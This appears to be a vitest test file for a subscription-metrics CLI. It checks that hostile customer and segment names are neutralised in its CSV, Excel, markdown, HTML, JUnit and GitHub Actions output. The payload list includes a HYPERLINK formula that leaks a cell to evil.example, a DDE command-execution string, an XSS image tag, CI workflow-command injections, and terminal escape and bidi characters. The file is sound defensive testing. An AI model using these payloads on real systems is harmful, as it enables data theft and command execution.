import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ue } from "../support/io.ts";
import { descendants, parseXml } from "../support/xml.ts";

/** Names that some program on the way to a reader would obey. */
const NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"open me")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\uff1d1+1",
  "a|b\\|c`d",
  "<img src=x onerror=alert(1)><!--",
  "@octocat fixes #1, see https://evil.example",
  "**bold** [link](javascript:alert(1))",
  "100%::error::pwned",
  "first\n::error file=x::pwned",
  "first\r\n::stop-commands::pwned",
  "::add-mask::pwned",
  "\u001b[31mred\u001b[2J\u0007",
  "\u009b31mred",
  "\u202egnp.exe",
  "\u2066isolated",
  "</testsuite>]]>&<!DOCTYPE x>",
  "\ufffe\uffff",
  'a,b;c"d"',
  "line\u2028separator",
];

const folder = mkdtempSync(join(tmpdir(), "ue-hostile-"));
afterAll(() => rmSync(folder, { recursive: true }));

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

beforeAll(() => {
  const lines = NAMES.flatMap((name, i) =>
    Array.from({ length: 6 }, (_, j) =>
      [quoted(`${name} ${j}`), "2023-01-01", "", String(100 + i), "month", quoted(name), quoted(name)].join(","),
    ),
  );
  // One customer who pays most of it all is named in a note.
  lines.push([quoted(NAMES[6]!), "2023-01-01", "", "99999", "month", "", ""].join(","));
  writeFileSync(
    join(folder, "subs.csv"),
    `customer_id,start_date,end_date,amount,interval,segment,channel\n${lines.join("\n")}\n`,
  );
  const costs = Array.from({ length: 12 }, (_, i) => `2024-${String(i + 1).padStart(2, "0")},sales,1000`);
  writeFileSync(join(folder, "costs.csv"), `month,category,amount\n${costs.join("\n")}\n`);
  const gates = NAMES.map((name, i) => ({
    id: `own.${i}`,
    metric: "customers",
    min: 1000,
    kind: "required",
    stages: ["gtm"],
    segment: name,
    title: `Customers of ${name}`,
    action: name,
    because: name,
    source: name,
  }));
  const config = {
    version: 1,
    subscriptions: { files: ["subs.csv"] },
    costs: { files: ["costs.csv"] },
    gates,
    attest: { "gtm.best-practice": { answer: true, evidence: NAMES[6], date: "2024-05-20" } },
  };
  writeFileSync(join(folder, "ue.yaml"), JSON.stringify(config));
});

const run = async (...args: string[]) => {
  const { code, stdout, stderr } = await ue(args, { cwd: folder });
  expect([0, 1]).toContain(code);
  // Formats without a place for warnings tell them here.
  expect(stderr).toMatch(/^(warning: [^\p{Cc}\p{Bidi_Control}]*\n)*$/u);
  return stdout;
};

const COMMANDS = [
  ["check"],
  ["check", "--stage", "gtm"],
  ["check", "--by", "segment"],
  ["explain", "ndr"],
  ["explain", "own.0"],
  ["metrics", "ndr", "mrr", "--by", "segment"],
  ["metrics", "mrr", "--by", "channel"],
  ["mrr", "--by", "segment"],
  ["cohorts"],
  ["gates"],
];
const CHECK_ONLY = ["junit", "github"];
const FORMATS = ["table", "json", "jsonl", "csv", "excel", "excel-eu", "markdown", ...CHECK_ONLY];
const RUNS = [
  ...COMMANDS.flatMap((args) =>
    FORMATS.filter((format) => args[0] === "check" || !CHECK_ONLY.includes(format)).map(
      (format) => [args, format] as const,
    ),
  ),
  [["report", "--stage", "gtm"], "html"] as const,
];

describe("names that some program would obey", () => {
  it("arrive in the JSON as they are", async () => {
    const { metrics } = JSON.parse(await run("metrics", "mrr", "--by", "segment", "--format", "json"));
    const groups = metrics.map(({ group }: { group: string }) => group);
    for (const name of NAMES) expect(groups).toContain(name);
  });

  it.each(RUNS)("ue %j --format %s steers no terminal and gives no command to a CI server", async (args, format) => {
    const text = await run(...args, "--format", format);
    expect(text).not.toMatch(/(?![\t\r\n])\p{Cc}|[\u202a-\u202e\u2066-\u2069]/u);
    const commands = text.split(/\r\n|\r|\n/).filter((line) => line.trimStart().startsWith("::"));
    if (format === "github") for (const line of commands) expect(line).toMatch(/^::(error|warning|notice) /);
    else expect(commands).toEqual([]);
  });

  it.each(["csv", "excel", "excel-eu"])("are text, not formulas, in %s", async (format) => {
    const delimiter = format === "excel-eu" ? ";" : ",";
    for (const args of COMMANDS) {
      const { rows, records } = await rowsOf(args, format, delimiter);
      expect(rows.length).toBe(records.length);
      for (const [index, row] of rows.entries())
        for (const [name, cell] of Object.entries(row)) {
          const value = records[index]![name];
          if (typeof value !== "string") expect(cell.startsWith("'")).toBe(false);
          else expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
        }
    }
  });

  it("stay the same text in csv but for an apostrophe, and for what a terminal would obey", async () => {
    const { rows } = await rowsOf(["metrics", "mrr", "--by", "segment"], "csv", ",");
    const cells = rows.map(({ group }) => group!.replace(/^'/, "").replace(/([\r\n])'::/g, "$1::"));
    const expected = NAMES.map((name) => name.replace(/(?![\t\r\n])\p{Cc}|[\u202a-\u202e\u2066-\u2069]/gu, "\ufffd"));
    for (const name of expected) expect(cells).toContain(name);
  });

  async function rowsOf(args: readonly string[], format: string, delimiter: string) {
    const text = await run(...args, "--format", format);
    const rows = parse(text, { columns: true, bom: true, delimiter, recordDelimiter: "\r\n" }) as Record<
      string,
      string
    >[];
    const json = JSON.parse(await run(...args, "--format", "json"));
    const list = (json.evidence ?? Object.values(json).find(Array.isArray)) as Record<string, unknown>[];
    return { rows, records: list };
  }

  it("stay in their table cells and are no markup in markdown", async () => {
    for (const args of COMMANDS) {
      const text = await run(...args, "--format", "markdown");
      const isTag = /<(?!\/?(?:details|summary)>)/;
      expect(text).not.toMatch(isTag);
      expect(text).not.toMatch(/@(?!&#8203;)|(?<!\\)\*\*bold|(?<!\\)\[link|https?:\/\//);
      const blocks = text.split("\n\n").filter((block) => block.startsWith("| "));
      for (const block of blocks) {
        const widths = block.split("\n").map((line) => line.match(/(?<!\\)(?:\\\\)*\|/g)!.length);
        expect(new Set(widths).size).toBe(1);
      }
    }
  });

  it("are no markup in html, and load nothing", async () => {
    const text = await run("report", "--stage", "gtm", "--format", "html");
    expect(text).toContain("&lt;img src=x onerror=alert(1)&gt;&lt;!--");
    const tags = [...text.matchAll(/<([^\s>/]*)/g)].map(([, name]) => name);
    expect(tags).not.toContain("img");
    expect(tags).not.toContain("script");
    expect(text.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\s(?:on[a-z]+|href|src)\s*=/);
  });

  it.each([["check"], ["check", "--stage", "gtm"]])("are well-formed in junit: ue %s %s %s", async (...args) => {
    const root = parseXml(await run(...args, "--format", "junit"));
    const { gates, questions } = JSON.parse(await run(...args, "--format", "json"));
    expect(descendants(root, "testcase").length).toBe(gates.length + questions.length);
    expect(descendants(root, "testcase").some(({ attributes }) => attributes.name!.includes("</testsuite>]]>&"))).toBe(
      true,
    );
  });

  it("are one annotation each in github, ten at most", async () => {
    const lines = (await run("check", "--stage", "gtm", "--format", "github")).trimEnd().split("\n");
    for (const line of lines) expect(line).toMatch(/^::(error|warning|notice) [^\r\n]*?::/);
    expect(lines.filter((line) => line.startsWith("::error")).length).toBe(10);
  });
});
